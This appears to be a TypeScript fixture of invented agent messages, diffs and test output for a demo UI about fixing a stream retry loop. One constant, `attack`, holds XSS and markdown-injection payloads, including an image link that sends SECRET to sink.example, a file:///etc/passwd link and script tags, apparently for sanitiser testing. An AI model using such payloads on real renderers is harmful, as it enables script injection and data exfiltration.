// Table. Invented texts of the invented engine.
import type { DiffLine, FileDiff } from "../../protocol";

export const plain = "I'm the rehearsal engine: nothing you see here is real, and nothing outside of this page changes. You said:";
export const thoughts = "The report says that text appears twice. That happens when a request is sent again after its answer has begun. I should look at the retry loop first, then at what it calls, before I propose anything.";
export const finding = "The loop in `send()` retries on any error, including those that arrive after the first chunk, so a dropped connection repeats text that the user has already seen. I'll retry only until the response has started, and keep what arrived otherwise.";
export const manyEdits = "Two files need the same change, then the tests. The second edit builds on the first, so it is shown when that one is decided.";
export const done = "Done. A stream that has begun is never begun again:\n\n- `open()` retries up to three times, with a growing pause\n- what arrived is kept, and the reader is told why it ends\n\nAll **14** tests pass.";
export const willRun = "I'll run the tests that mention `retry`.";
export const willRead = "I'll look at both files.";
export const afterRead = "`src/retry.rs` holds the loop, and the readme still describes the old behaviour. Shall I change both?";
export const summary = "## Goal\nA stream that has begun is never begun again.\n\n## Decisions\n- Retry only until the first byte, since repeated text confuses the reader\n- Keep what arrived, and say why it ended\n\n## Open points\n- The changelog\n\n## Files\n- `src/retry.rs`: the loop\n- `README.md`: still describes the old behaviour";
export const cutOff = "The first thing to look at is the connection: it is opened once and then";
export const outOfSteps = "I've read three of eleven parts. So far nothing touches the retry loop; the remaining eight are still to be read.";
export const chinese = "测试在 Windows 上失败，是因为路径分隔符不同：`src\\\\retry.rs` 与 `src/retry.rs` 被当成了两个文件。\n\n1. 比较之前先统一分隔符\n2. 盘符不区分大小写\n3. 为两种写法各加一个测试\n\n已经收到的内容会**保留**，不会重复。";
export const attack = 'Here is a picture: <img src=x onerror="window.ran=true"> and ![x](https://sink.example/?d=SECRET), a [file](file:///etc/passwd), a [script](javascript:window.ran=true) and <iframe src="https://sink.example/"></iframe>.\n\n```mermaid\ngraph TD; A["<script>window.ran=true</script>"]-->B\n```\n\n<script>window.ran = true</script>\n';
export const question = { question: "Which errors may be retried once the stream has begun?", options: ["None", "Only a lost connection", "All, but without the text that came"] };
export const willAsk = "Before I change the loop I need to know what you want.";
export const asked = "So be it: nothing is retried once text has arrived.";
export const steps = ["Read the retry loop", "Write a test that cuts a stream", "Retry only before the first byte", "Run all tests", "更新更新日志"];
export const willDispatch = "Two agents look side by side; I go on with what they find.";
export const tasks = [
  { task: "Where is a stream retried after it has begun?", answer: "In one place: `send()` in `src/retry.rs`, lines 40 to 61. The loop repeats on **any** error, also on those that come after the first chunk." },
  { task: "Which tests cover the retry loop, and which cases do they leave out?", answer: "Three tests in `tests/retry.rs`: connect errors, a 503, a time-out. None cuts a stream that has begun." },
] as const;
export const dispatched = "The loop in `send()` is the only place, and no test cuts a stream that has begun. I'd begin with that test.";
export const matches = "src/retry.rs:40: backoff(attempt)\nsrc/retry.rs:58: backoff(1)\nsrc/stream.rs:12: backoff(attempt)\n";
export const testOutput = "\u001b[32m   Compiling\u001b[0m atlas v0.4.0\n\u001b[32m    Finished\u001b[0m test profile in 1.1s\n\u001b[1mrunning 14 tests\u001b[0m\ntest retry::opens ... \u001b[32mok\u001b[0m\ntest retry::keeps_what_arrived ... \u001b[32mok\u001b[0m\ntest result: \u001b[32mok\u001b[0m. 14 passed; 0 failed\n";

export const fileText = (path: string): string => `//! ${path}\n\npub async fn send(&self, request: &Request) -> Result<Response, Error> {\n    loop {\n        match self.stream(request).await {\n            Ok(response) => return Ok(response),\n            Err(error) => self.wait(error).await?,\n        }\n    }\n}\n`;

export const long = Array.from(
  { length: 12 },
  (_, index) => `## Part ${index + 1}\n\nA stream that has begun is never begun again. What arrived is **kept**, and the reader is told *why* it ends; see \`src/retry.rs\`.\n\n1. Open first\n2. Then stream\n   - and keep what came\n\n| case | before | now |\n|:-----|:------:|----:|\n| connect error | 3 tries | 3 tries |\n| cut after 12 kB | text twice | kept |\n\n\`\`\`rust\npub async fn open(&self, request: &Request) -> Result<Response, Error> {\n    for wait in WAITS {\n        match self.client.execute(request).await {\n            Ok(response) => return Ok(response),\n            Err(error) if error.is_connect() => sleep(wait).await,\n            Err(error) => return Err(error.into()),\n        }\n    }\n    Err(Error::GaveUp)\n}\n\`\`\`\n`,
).join("\n");

const lines = (text: string): DiffLine[] => text.split("\n").map((line) => ({ mark: (line[0] ?? " ") as DiffLine["mark"], text: line.slice(1) }));

export function edit(path: string): FileDiff {
  return {
    path,
    resolved: null,
    change: { is: "modified" },
    old_lines: 88,
    added: 4,
    removed: 3,
    notes: [],
    hunks: [
      { old_start: 40, new_start: 40, lines: lines("-    loop {\n-        match self.stream(request).await {\n+    let response = loop {\n+        match self.open(request).await {\n             Ok(response) => break response,") },
      { old_start: 57, new_start: 57, lines: lines("         }\n-    Err(last)\n+    };\n+    self.stream(response).await\n }") },
    ],
  };
}
